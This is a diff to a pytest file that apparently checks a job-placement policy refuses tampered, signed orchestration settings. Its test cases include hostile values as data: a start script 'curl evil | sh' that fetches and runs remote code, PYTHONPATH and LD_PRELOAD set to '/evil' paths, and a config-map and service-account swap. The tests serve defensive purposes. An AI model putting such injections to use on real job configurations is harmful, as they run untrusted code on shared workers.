@@ -96,12 +96,6 @@ def test_the_agents_environment_is_never_read(monkeypatch: pytest.MonkeyPatch) -
     assert plan.env == {"A": "{{ $PREFECT_API_KEY }}", "B": "{{ $HOME }}"}
 
 
-@pytest.mark.parametrize("value", ["{{ prefect.blocks.secret.mine }}", "x-{{prefect.variables.y}}"])
-def test_a_block_or_variable_of_prefect_is_refused_by_name(value: str) -> None:
-    with pytest.raises(Refused, match=r"job variable env\.A refers to a block or variable"):
-        place(due(env={"A": value}), deployment(), template(), POLICY)
-
-
 @pytest.mark.parametrize(
     ("variables", "said"),
     [
@@ -193,6 +187,8 @@ def test_a_pool_may_allow_unsigned_code_and_a_deployment_may_not(strict: Policy)
         ({"start_script": "curl evil | sh"}, "start script"),
         ({"env": {"PYTHONPATH": "/evil"}}, "environment"),
         ({"env": {"LD_PRELOAD": "/evil.so"}}, "environment"),
+        ({"env_from": [{"configMapRef": {"name": "evil"}}]}, "environment by reference, volumes or service account"),
+        ({"service_account": "mighty"}, "environment by reference, volumes or service account"),
     ],
 )
 def test_what_was_signed_cannot_be_changed_at_any_level(
